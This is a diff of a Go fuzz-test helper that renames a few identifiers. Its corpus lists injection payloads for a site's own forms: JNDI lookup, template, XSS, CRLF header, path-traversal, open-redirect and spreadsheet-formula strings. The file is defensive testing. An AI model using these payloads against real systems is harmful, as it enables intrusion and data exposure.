@@ -5,8 +5,8 @@ import (
 	"strings"
 )
 
-// mark stands in everything of the corpus that is markup: if it comes out of the site as it went in, that isn't escaped.
-const mark = "<fire"
+// marker stands in everything of the corpus that is markup: if it comes out of the site as it went in, that isn't escaped.
+const marker = "<fire"
 
 // corpus are texts that no page of ours expects in a field.
 func corpus() []string {
@@ -17,7 +17,7 @@ func corpus() []string {
 		"{{.}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "${jndi:ldap://x.example/a}",
 		"a\r\nSet-Cookie: fire=1", "a\nLocation: //fire.example", "%0d%0aX-Fire: 1", "%s%n%x%p", "%!d(string=x)", "%v%+v%#v",
 		"-1", "0", "00", "1e309", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "340282366920938463463374607431768211456", "0x1F", "NaN", "Infinity", "٣", "１",
-		mark + ">", `">` + mark + ">", "'>" + mark + ` onerror=x>`, "</textarea>" + mark + ">", "</title>" + mark + ">", "javascript:alert(1)", "data:text/html," + mark + ">",
+		marker + ">", `">` + marker + ">", "'>" + marker + ` onerror=x>`, "</textarea>" + marker + ">", "</title>" + marker + ">", "javascript:alert(1)", "data:text/html," + marker + ">",
 		"//fire.example", "https://fire.example/", "/\\fire.example", "/../../etc/passwd", "..%2f..%2f", "file:///etc/passwd", "\\\\fire.example\\x",
 		"=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "prod-interop", "prod-none", "prod-io", "api", "admin", "active", "suspended", "administrator", "operator",
 		"suspend", "reactivate", "remove", "join", "leave", "edit", "csv", "xlsx", "it", "en", "RSSMRA80A01H501U", "rssmra80a01h501u", "maria@ente.example", "a@b", "@", "a@b@c.example",
@@ -27,8 +27,8 @@ func corpus() []string {
 	}
 }
 
-// known are the fields that forms and addresses of the site have; what comes back from pages adds to their values.
-func known() []string {
+// fieldNames are the fields that forms and addresses of the site have; what comes back from pages adds to their values.
+func fieldNames() []string {
 	return []string{
 		"once", "fiscal_code", "first_name", "last_name", "email", "product", "role", "roles", "names_confirmed", "names", "version", "group", "title", "target",
 		"user", "action", "state", "category", "q", "text", "after", "before", "above", "below", "page", "person", "from", "to", "lang", "back", "format", "rows", "file", "done",
@@ -36,5 +36,5 @@ func known() []string {
 	}
 }
 
-// one draws one.
-func one[T any](r *rand.Rand, from []T) T { return from[r.IntN(len(from))] }
+// pick draws one.
+func pick[T any](r *rand.Rand, from []T) T { return from[r.IntN(len(from))] }
